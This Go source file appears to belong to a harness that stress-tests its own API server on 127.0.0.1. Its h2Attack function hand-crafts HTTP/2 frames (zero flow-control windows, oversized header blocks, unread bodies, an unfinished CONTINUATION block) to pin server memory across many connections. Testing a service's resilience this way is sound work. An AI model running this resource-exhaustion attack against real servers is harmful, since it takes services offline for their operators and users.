package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/binary"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// makeCertificate writes a self-signed certificate for 127.0.0.1 and its
// key in dir, for the server (-tls), and trusts it for the clients.
func makeCertificate(dir string) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	check(err)
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "127.0.0.1"},
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
		NotBefore:   time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	check(err)
	keyDER, err := x509.MarshalPKCS8PrivateKey(key)
	check(err)
	certFile, keyFile = filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	check(os.WriteFile(certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600))
	check(os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: keyDER}), 0o600))
	cert, err := x509.ParseCertificate(der)
	check(err)
	pool := x509.NewCertPool()
	pool.AddCert(cert)
	clientTLS = &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}
}

// apiURL is the API's base URL: https with -tls.
func apiURL(addr string) string {
	if *useTLS {
		return "https://" + addr
	}
	return "http://" + addr
}

// apiClient is an HTTP client for the API (HTTP/2 over TLS with -tls).
func apiClient(timeout time.Duration) *http.Client {
	if !*useTLS {
		return &http.Client{Timeout: timeout}
	}
	return &http.Client{Timeout: timeout, Transport: &http.Transport{TLSClientConfig: clientTLS, ForceAttemptHTTP2: true}}
}

// h2Attack keeps n HTTP/2 connections, each holding as much as one
// connection can make the server keep: -h2-streams streams (the server
// allows 10 at once) whose header blocks decode to more than the server's
// limit in tiny fields, which net/http answers 431 itself, and whose
// answers it never takes (a stream window of 0), so that each keeps its
// decoded fields until the write timeout; 64 KiB of request body on two of
// them (the connection's window), which nothing reads; and one more header
// block of about 38 KiB left unfinished.
func h2Attack(ctx context.Context, addr string, n int, tokens []string) *attack {
	a := &attack{n: n, proto: "h2"}
	var tiny, fields []string
	for i := range 1300 {
		tiny = append(tiny, fmt.Sprintf("x-%04d", i), "v")
	}
	for i := range 98 {
		fields = append(fields, fmt.Sprintf("x-field-%02d", i), strings.Repeat("v", 370))
	}
	return crowd(ctx, addr, a, func(ctx context.Context, c net.Conn, i int) {
		go io.Copy(io.Discard, c) // the server's SETTINGS, headers, resets
		var out []byte
		out = append(out, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"...)
		const initialWindowSize = 0x4
		out = appendFrame(out, 0x4, 0, 0, []byte{0, initialWindowSize, 0, 0, 0, 0})
		block := func(extra []string) []byte {
			return hpackLiterals(append([]string{":method", "GET", ":scheme", "https", ":authority", addr,
				":path", *h2Path, "authorization", "Bearer " + tokens[i%len(tokens)]}, extra...)...)
		}
		for s := uint32(1); s <= uint32(2**h2Streams-1); s += 2 {
			out = appendHeaders(out, s, block(tiny), true)
			a.sent.Add(1)
		}
		body := make([]byte, 16<<10)
		for _, s := range []uint32{1, 3}[:min(2, *h2Streams)] {
			out = appendFrame(out, 0x0, 0, s, body)
			out = appendFrame(out, 0x0, 0, s, body)
		}
		// One more block, its last frame never sent.
		b := block(fields)
		out = appendHeaders(out, uint32(2**h2Streams+1), b[:len(b)-1024], false)
		if _, err := c.Write(out); err != nil {
			return
		}
		<-ctx.Done()
	})
}

// appendHeaders appends a header block on stream in frames of 16 KiB
// (HEADERS, CONTINUATION...), ended (END_HEADERS on the last) if end.
func appendHeaders(out []byte, stream uint32, block []byte, end bool) []byte {
	for first := true; first || len(block) > 0; first = false {
		n := min(len(block), 16<<10)
		typ, flags := byte(0x9), byte(0) // CONTINUATION
		if first {
			typ = 0x1 // HEADERS
		}
		if end && n == len(block) {
			flags |= 0x4 // END_HEADERS
		}
		out = appendFrame(out, typ, flags, stream, block[:n])
		block = block[n:]
	}
	return out
}

func appendFrame(out []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	out = append(out, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), typ, flags)
	out = binary.BigEndian.AppendUint32(out, stream)
	return append(out, payload...)
}

// hpackLiterals encodes name, value pairs as HPACK literals without
// indexing and without Huffman coding (RFC 7541 §6.2.2).
func hpackLiterals(fields ...string) []byte {
	var b []byte
	for i := 0; i+1 < len(fields); i += 2 {
		b = append(b, 0x00)
		b = hpackString(b, fields[i])
		b = hpackString(b, fields[i+1])
	}
	return b
}

func hpackString(b []byte, s string) []byte {
	n := len(s)
	if n < 127 {
		b = append(b, byte(n))
	} else {
		b = append(b, 127)
		for n -= 127; n >= 128; n >>= 7 {
			b = append(b, byte(n%128+128))
		}
		b = append(b, byte(n))
	}
	return append(b, s...)
}
